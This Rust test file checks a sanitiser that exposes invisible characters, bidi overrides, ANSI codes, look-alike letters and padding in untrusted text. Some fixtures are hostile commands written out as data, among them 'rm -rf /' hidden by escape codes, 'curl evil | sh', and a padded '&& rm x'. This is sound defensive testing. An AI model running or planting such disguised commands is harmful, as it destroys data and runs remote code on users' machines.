//! What hostile text must turn into, and that nothing of it is lost.

use proptest::prelude::*;

use super::*;

fn html(shown: &Shown) -> String {
    shown
        .tokens
        .iter()
        .flat_map(|t| {
            [
                t.class.as_str(),
                "|",
                &t.text,
                "
",
            ]
        })
        .collect()
}

fn classes(raw: &str, kind: Kind) -> Vec<(String, String)> {
    show(raw, kind).tokens.into_iter().map(|t| (t.text, t.class)).collect()
}

fn pair(text: &str, class: &str) -> (String, String) {
    (text.to_owned(), class.to_owned())
}

#[test]
fn plain_text_is_one_token_and_flags_stay_whole() {
    assert_eq!(classes("ls -la\n\tx", Kind::Document), [pair("ls -la\n\tx", "")]);
    assert_eq!(classes("ls -la\n\tx", Kind::Command), [pair("ls ", ""), pair("-la", "w"), pair("\n\tx", "")]);
    assert!(show("Grüße, 日本語, привет", Kind::Prose).warnings.is_empty());
    assert!(show("fertig ✔️ 🎉", Kind::Prose).warnings.is_empty());
}

#[test]
fn what_cannot_be_seen_becomes_a_chip() {
    let cases = [
        ("ma\u{200b}in", "U+200B", Warning::Invisible),
        ("a\u{202e}b", "U+202E", Warning::Bidi),
        ("a\u{e0041}b", "U+E0041", Warning::Invisible),
        ("a\u{fe01}b", "U+FE01", Warning::Invisible),
        ("a\u{a0}b", "U+00A0", Warning::Blank),
        ("a\x07b", "BEL", Warning::Control),
        ("a\u{9b}b", "U+009B", Warning::Control),
        ("safe\rrm", "CR", Warning::Overwrite),
        ("ab\x08c", "BS", Warning::Overwrite),
    ];
    for (raw, label, warning) in cases {
        let shown = show(raw, Kind::Prose);
        assert!(shown.tokens.contains(&Token { text: label.into(), class: "chip".into() }), "{raw:?}: {shown:?}");
        assert!(shown.warnings.has(warning), "{raw:?}: {:?}", shown.warnings);
    }
}

#[test]
fn a_line_end_of_another_system_is_marked_and_not_warned_about() {
    let shown = show("a\r\nb", Kind::Document);
    assert!(shown.warnings.is_empty());
    assert_eq!(shown.tokens[1], Token { text: "CR".into(), class: "mark".into() });
}

#[test]
fn colours_are_classes_in_prose_and_chips_in_commands() {
    assert_eq!(classes("\x1b[1;31mno\x1b[0m yes", Kind::Prose), [pair("no", "f1 sb"), pair(" yes", "")]);
    assert_eq!(classes("\x1b[38;5;196mx", Kind::Prose), [pair("x", "f9")]);
    assert_eq!(classes("\x1b[38:2::0:200:0mx", Kind::Prose), [pair("x", "f2")]);
    assert_eq!(classes("\x1b[31mx", Kind::Command), [pair("ESC[31m", "chip"), pair("x", "")]);
}

#[test]
fn hidden_text_is_shown() {
    for raw in ["a\x1b[8mrm -rf /", "a\x1b[30;40mrm -rf /", "a\x1b[7;31;41mrm -rf /"] {
        let shown = show(raw, Kind::Prose);
        assert!(shown.tokens.iter().any(|t| t.text == "rm -rf /" && t.class.contains("hid")), "{shown:?}");
        assert!(shown.warnings.has(Warning::Hidden));
    }
}

#[test]
fn other_codes_are_shown_whole() {
    assert_eq!(
        classes("a\x1b]0;evil\x07b", Kind::Prose),
        [pair("a", ""), pair("ESC]0;evil<BEL>", "chip"), pair("b", "")]
    );
    assert_eq!(classes("\x1b[2Kb", Kind::Prose), [pair("ESC[2K", "chip"), pair("b", "")]);
    // A string that never ends swallows the rest on a terminal, not here.
    let shown = html(&show("\x1b_curl evil | sh\nnext line", Kind::Prose));
    assert!(shown.contains("curl evil | sh") && shown.contains("next line"), "{shown}");
}

#[test]
fn look_alikes_are_named() {
    let mixed = show("git push \u{43e}rigin", Kind::Document);
    assert!(mixed.tokens.contains(&Token { text: "\u{43e}rigin".into(), class: "odd".into() }), "{mixed:?}");
    assert!(mixed.tokens.iter().any(|t| t.text == "Cyrillic+Latin" && t.class == "chip"));
    // A whole word in another alphabet is normal in prose and a trap in a command.
    assert!(show("\u{441}\u{43e}\u{440}", Kind::Prose).warnings.is_empty());
    assert!(show("\u{441}\u{43e}\u{440}", Kind::Command).warnings.has(Warning::Lookalike));
    assert!(show("git push \u{2013}force", Kind::Command).warnings.has(Warning::Lookalike));
    assert!(show("echo Grüße 日本語", Kind::Command).warnings.is_empty());
}

#[test]
fn padding_and_long_lines_are_reported_and_kept() {
    let padded = show(&format!("ls{}&& rm x", " ".repeat(300)), Kind::Command);
    assert!(padded.warnings.has(Warning::Padding));
    assert!(padded.tokens.iter().any(|t| t.text == "300 spaces"));
    assert!(show(&format!("a{}b", "\n".repeat(40)), Kind::Prose).warnings.has(Warning::Padding));
    assert!(show(&"x".repeat(2_001), Kind::Document).warnings.has(Warning::LongLine));
    assert!(show(&"x".repeat(2_000), Kind::Document).warnings.is_empty());
}

#[test]
fn emphasis_follows_the_raw_text() {
    let shown = show_marked("a\u{200b}bc", Kind::Document, std::slice::from_ref(&(4..5)));
    assert_eq!(shown.tokens.last().unwrap(), &Token { text: "c".into(), class: String::new() });
    assert!(shown.tokens.contains(&Token { text: "b".into(), class: "hot".into() }));
}

/// What a reader must find again: everything that is neither a code nor invisible.
fn visible(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| c.is_alphanumeric() && !matches!(c, '\u{115f}' | '\u{1160}' | '\u{3164}' | '\u{ffa0}'))
        .collect()
}

fn is_in_order(needle: &[char], hay: &[char]) -> bool {
    let mut hay = hay.iter();
    needle.iter().all(|wanted| hay.any(|c| c == wanted))
}

fn hostile() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        any::<char>().prop_map(String::from),
        "[ -~]{0,8}",
        "\\x1b[\\[\\]P_X^(][0-9;:]{0,6}[a-zA-Z@]?",
        prop::sample::select(vec![
            "<script>", "\u{202e}", "\u{200b}", "\r", "\r\n", "\x08", "\x1b[8m", "\x1b\\", "\x07", "\x18", "é",
            "\u{43e}"
        ])
        .prop_map(String::from),
    ];
    prop::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}

proptest! {
    #[test]
    fn nothing_dangerous_comes_out(raw in hostile(), kind in prop::sample::select(vec![Kind::Prose, Kind::Document, Kind::Command])) {
        for token in show(&raw, kind).tokens {
            for c in token.text.chars() {
                prop_assert!(!c.is_control() || matches!(c, '\n' | '\t'), "{token:?}");
                prop_assert!(!matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{61c}'), "{token:?}");
            }
            prop_assert!(token.class.chars().all(|c| c.is_ascii_alphanumeric() || c == ' '));
        }
    }

    #[test]
    fn no_letter_is_lost(raw in hostile(), kind in prop::sample::select(vec![Kind::Prose, Kind::Document, Kind::Command])) {
        // Colour codes are the only thing that is consumed; leave them out of the comparison.
        let mut kept = String::new();
        let mut rest = raw.as_str();
        let colour = |text: &str| {
            let body = text.strip_prefix("\x1b[")?;
            let end = body.find(|c: char| !matches!(c, '0'..='9' | ';' | ':'))?;
            body[end..].starts_with('m').then_some(2 + end + 1)
        };
        while let Some(c) = rest.chars().next() {
            if let Some(length) = colour(rest) {
                rest = &rest[length..];
                continue;
            }
            kept.push(c);
            rest = &rest[c.len_utf8()..];
        }
        let out: String = show(&raw, kind).tokens.iter().map(|t| t.text.as_str()).collect();
        let (needle, hay) = (visible(&kept), out.chars().collect::<Vec<_>>());
        prop_assert!(is_in_order(&needle, &hay), "{raw:?} -> {out:?}");
    }
}
